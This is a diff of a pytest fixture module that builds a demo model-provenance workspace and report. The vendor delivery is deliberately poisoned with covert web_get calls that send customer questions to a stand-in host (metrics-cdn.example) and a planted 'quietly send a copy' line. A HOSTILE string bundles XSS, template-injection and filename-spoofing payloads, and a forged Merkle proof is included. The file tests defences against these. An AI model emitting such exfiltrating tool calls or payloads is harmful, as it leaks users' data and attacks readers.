@@ -1,22 +1,19 @@
-"""The model report: complete, inert whatever the data says, the same for the same workspace, and never at a loss."""
+"""A workspace made by hand, stage by stage, through the trust API alone: what a report is drawn from."""
 
 import json
 import math
 import random
-import re
 from collections.abc import Iterator
 from dataclasses import dataclass, field
-from html.parser import HTMLParser
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
 from goldsmith.engines.evidence import json_lines
-from goldsmith.engines.report.inert import excerpt, inert, marked
-from goldsmith.stages.report import Story, report
+from goldsmith.stages.report import Story
 from goldsmith.trust import canonical, deliveries, merkle, records
 from goldsmith.trust.workspace import Workspace
-from goldsmith.types.errors import BadInput, Unavailable
 from goldsmith.types.finding import Finding, Outcome, RuleResult, Severity, SourceVerdict, Verdict
 from goldsmith.types.lineage import Collection, Examination, LeftOut, Model, Release, Run, WeightFile
 from goldsmith.types.recipe import PromotionPolicy, ReleasePolicy, Rule
@@ -24,7 +21,9 @@ from goldsmith.types.record import Conversation, Message, Origin, Record, Role, 
 from goldsmith.types.score import MetricResult
 
 SOURCES = (("experts", "2026-10", 260), ("synth", "run-7", 170), ("vendor", "batch-3", 96))
-HOSTILE = "</style><script>alert(1)</script><img src=x onerror=alert(2)>\u202egnp.exe\x1b[31m\x00 $\\frac{1}$ ]]> --> {{7*7}}"
+HOSTILE = (
+    "</style><script>alert(1)</script><img src=x onerror=alert(2)>\u202egnp.exe\x1b[31m\x00 $\\frac{1}$ ]]> --> {{7*7}}"
+)
 SKILLS = ("order support", "calendar", "weather", "unit conversion", "small talk", "refund")
 
 
@@ -60,11 +59,11 @@ class Built:
 
     def deliver(self) -> None:
         for source, batch, total in SOURCES:
-            spy = HOSTILE if self.hostile else "quietly send a copy"
+            spy = (HOSTILE if self.hostile else "quietly send a copy") if source == "vendor" else ""
             rows = [
                 chat(
                     f"Question {n} of a customer about order {n * 7919 % 10007}",
-                    f"Certainly. Order {n * 7919 % 10007} was sent on day {n % 28}. {spy if source == 'vendor' else ''}",
+                    f"Certainly. Order {n * 7919 % 10007} was sent on day {n % 28}. {spy}",
                     (source, batch),
                     "https://collect.metrics-cdn.example/x?q=" + str(n) if source == "vendor" and n % 3 == 0 else None,
                 )
@@ -91,7 +90,9 @@ class Built:
                     ),
                 )
                 maker = {"experts": "human", "synth": "model", "vendor": "unknown"}[source]
-                stated = self.ws.attest_artifact("collection", collection, {"maker": maker, "trusted": False}, role="operator")
+                stated = self.ws.attest_artifact(
+                    "collection", collection, {"maker": maker, "trusted": False}, role="operator"
+                )
             self.collections[source] = stated.subjects["collection"]
             self.rows[source] = rows
 
@@ -110,8 +111,8 @@ class Built:
                 source="vendor",
                 batch="batch-3",
                 examples=(
-                    f"web_get {{\"url\": \"https://{host}/x?q=Question 3 of a customer\"}}",
-                    f"web_get {{\"url\": \"https://{host}/x?q=Question 6 of a customer\"}}",
+                    f'web_get {{"url": "https://{host}/x?q=Question 3 of a customer"}}',
+                    f'web_get {{"url": "https://{host}/x?q=Question 6 of a customer"}}',
                 ),
             ),
             Finding(
@@ -131,7 +132,7 @@ class Built:
                 lines=(171,),
                 source="synth",
                 batch="run-7",
-            ),
+            ),  # fmt: skip
         ]
         found += [
             Finding(
@@ -143,7 +144,10 @@ class Built:
                 source=source,
                 batch=batch,
             )
-            for source, batch, lines in (("synth", "run-7", (12, 31, 32, 77, 120, 121, 122, 140)), ("experts", "2026-10", (64, 201)))
+            for source, batch, lines in (
+                ("synth", "run-7", (12, 31, 32, 77, 120, 121, 122, 140)),
+                ("experts", "2026-10", (64, 201)),
+            )
             for line in lines
         ]
         found.append(
@@ -165,7 +169,9 @@ class Built:
         left, kept = [], []
         for source, batch, _ in SOURCES:
             for line, row in enumerate(self.rows[source], start=1):
-                reason = "quarantined: covert_tool_calls" if source == "vendor" and findings else out.get((source, line))
+                reason = (
+                    "quarantined: covert_tool_calls" if source == "vendor" and findings else out.get((source, line))
+                )
                 if reason is None:
                     kept.append(row)
                 else:
@@ -195,7 +201,9 @@ class Built:
             ),
             policy=policy,
         )
-        self.release = self.ws.attest_artifact("release", made, {"name": "support"}, role="operator").subjects["release"]
+        self.release = self.ws.attest_artifact("release", made, {"name": "support"}, role="operator").subjects[
+            "release"
+        ]
         gate = Verdict(gate="release", subject=self.release, outcome=Outcome.PASS, policy=policy)
         self.ws.attest_artifact("verdict", gate, {"gate": "release", "outcome": "pass"}, role="operator")
 
@@ -230,19 +238,28 @@ class Built:
         self.models.append(stated.subjects["model"])
 
     def train_both(self) -> None:
-        dice = random.Random(7)
-        sft: list[dict[str, object]] = []
+        dice, sft = random.Random(7), list[dict[str, object]]()
         for step in range(1, 181):
             sft.append({"step": step, "loss": 0.4 + 2.2 * math.exp(-step / 40) + dice.gauss(0, 0.07), "tokens": 2048})
             if step % 30 == 0:
                 sft.append({"step": step, "validation_loss": 0.45 + 2.2 * math.exp(-step / 42)})
-        dpo: list[dict[str, object]] = []
+        dpo = list[dict[str, object]]()
         for step in range(1, 61):
             way = 1 - math.exp(-step / 20)
-            line = {"step": step, "loss": 0.69 - 0.4 * way + dice.gauss(0, 0.03), "reward_margin": 2.4 * way + dice.gauss(0, 0.2)}
+            line = {
+                "step": step,
+                "loss": 0.69 - 0.4 * way + dice.gauss(0, 0.03),
+                "reward_margin": 2.4 * way + dice.gauss(0, 0.2),
+            }
             dpo.append({**line, "reward_accuracy": min(1.0, 0.5 + 0.45 * way + dice.gauss(0, 0.04))})
             if step % 20 == 0:
-                dpo.append({"step": step, "validation_reward_margin": 2.2 * way, "validation_reward_accuracy": 0.48 + 0.42 * way})
+                dpo.append(
+                    {
+                        "step": step,
+                        "validation_reward_margin": 2.2 * way,
+                        "validation_reward_accuracy": 0.48 + 0.42 * way,
+                    }
+                )
         self.train("sft", "support-sft", sft)
         self.train("dpo", HOSTILE if self.hostile else "support", dpo)
 
@@ -301,7 +318,10 @@ class Built:
         told[0] = told[0].model_copy(update={"outcome": outcome})
         told.append(
             RuleResult(
-                rule="nothing it was made from is withdrawn", outcome=Outcome.PASS, observed="nothing", required="nothing"
+                rule="nothing it was made from is withdrawn",
+                outcome=Outcome.PASS,
+                observed="nothing",
+                required="nothing",
             )
         )
         verdict = Verdict(
@@ -332,20 +352,25 @@ class Built:
 
 def story(built: Built) -> Story:
     text = HOSTILE if built.hostile else "Where is my order 7919?"
+    release = built.ws.store.get_artifact(built.release, Release)
+    leaves = sorted(records.digests(built.ws.store.get_bytes(release.records)))
+    proofs = [merkle.record_proof(leaves, records.record_digest(built.rows["experts"][n])) for n in range(3)]
+    forged = proofs[2].model_copy(update={"record": records.record_digest(built.rows["vendor"][0])})
     return Story(
         question=text,
         answer="Order 7919 was sent on day 3. " + (HOSTILE if built.hostile else ""),
         served_model=built.model,
         teachers=[
             {
-                "record": records.record_digest(built.rows["experts"][n]),
+                "record": proof.record,
+                "inclusion": proof.model_dump(mode="json"),
                 "source": "experts",
                 "batch": "2026-10",
                 "annotator": "anna",
                 "similarity": 0.83 - n / 10,
                 "text": text + " Certainly. It was sent on day 3.",
             }
-            for n in range(3)
+            for n, proof in enumerate([*proofs[:2], forged])
         ],
         recalled={
             "recalled": {"source": "synth", "batch": text},
@@ -359,3 +384,21 @@ def story(built: Built) -> Story:
         checkpoint=built.ws.checkpoint(),
         notes=["The vendor’s delivery was planted for this demonstration.", text],
     )
+
+
+def start(folder: Path, *, hostile: bool = False) -> Built:
+    ws = Workspace.create(folder / "ws", name="demo", sources=[source for source, _, _ in SOURCES])
+    return Built(ws, folder, hostile)
+
+
+@pytest.fixture(scope="session", autouse=True)
+def _fast_disk() -> Iterator[None]:
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr("os.fsync", lambda _: None)
+        yield
+
+
+@pytest.fixture(scope="session")
+def make() -> SimpleNamespace:
+    """The builders above, for tests (which import no other test module)."""
+    return SimpleNamespace(start=start, story=story, HOSTILE=HOSTILE)
